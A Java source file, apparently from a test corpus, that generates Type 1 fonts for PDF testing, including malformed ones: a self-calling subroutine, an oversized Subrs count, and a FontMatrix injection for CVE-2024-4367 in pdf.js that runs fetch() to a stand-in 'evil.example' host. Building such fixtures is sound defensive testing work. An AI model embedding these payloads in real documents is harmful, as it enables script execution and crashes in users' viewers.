package jp.kiyome.testcorpus.pdf;

import java.nio.charset.StandardCharsets;
import jp.kiyome.testcorpus.zip.Bytes;

/** A Type 1 font (Adobe Type 1 Font Format, 1990) of two glyphs, with one thing or other about it. */
final class Type1 {

    private static final int EEXEC = 55665;
    private static final int CHARSTRING = 4330;

    private Type1() {}

    static String plain() {
        return font("[0.001 0 0 0.001 0 0]", new byte[] {11}, glyph(), "1");
    }

    /** CVE-2024-4367: pdf.js put the matrix together as the text of a program. */
    static String matrix() {
        return font(
                "[0.001 0 0 0.001 0 (0\\); fetch\\('http://evil.example.invalid/'\\))]", new byte[] {11}, glyph(), "1");
    }

    /** A subroutine that calls itself. */
    static String recursive() {
        return font("[0.001 0 0 0.001 0 0]", new byte[] {(byte) 139, 10, 11}, new byte[] {(byte) 139, 10, 14}, "1");
    }

    static String count() {
        return font("[0.001 0 0 0.001 0 0]", new byte[] {11}, glyph(), "2147483647");
    }

    /** hsbw, endchar: a glyph of nothing, 0.6 wide. */
    private static byte[] glyph() {
        return new Bytes().octets(139, 248, 236, 13, 14).toArray();
    }

    private static String font(String matrix, byte[] subroutine, byte[] glyph, String count) {
        String clear =
                "%!PS-AdobeFont-1.0: Font\n12 dict begin\n/FontName /Font def\n/FontType 1 def\n/PaintType 0 def\n/FontMatrix "
                        + matrix
                        + " readonly def\n/FontBBox {0 0 500 500} readonly def\n/Encoding StandardEncoding def\ncurrentdict end\n"
                        + "currentfile eexec\n";
        String sub = latin(crypt(CHARSTRING, subroutine));
        String drawn = latin(crypt(CHARSTRING, glyph));
        String secret = "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n"
                + "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/lenIV 4 def\n/Subrs "
                + count + " array\ndup 0 "
                + sub.length() + " RD " + sub + " NP\nND\n2 index /CharStrings 2 dict dup begin\n/.notdef "
                + drawn.length() + " RD "
                + drawn + " ND\n/K " + drawn.length() + " RD " + drawn
                + " ND\nend\nend\nreadonly put\nmark currentfile closefile\n";
        return clear + latin(crypt(EEXEC, secret.getBytes(StandardCharsets.ISO_8859_1))) + "0".repeat(512)
                + "\ncleartomark\n";
    }

    private static byte[] crypt(int key, byte[] plain) {
        byte[] all = new Bytes().octets(1, 2, 3, 4).raw(plain).toArray();
        int state = key;
        for (int i = 0; i < all.length; i++) {
            int cipher = (all[i] & 0xFF) ^ state >> 8;
            state = (cipher + state) * 52845 + 22719 & 0xFFFF;
            all[i] = (byte) cipher;
        }
        return all;
    }

    private static String latin(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }
}
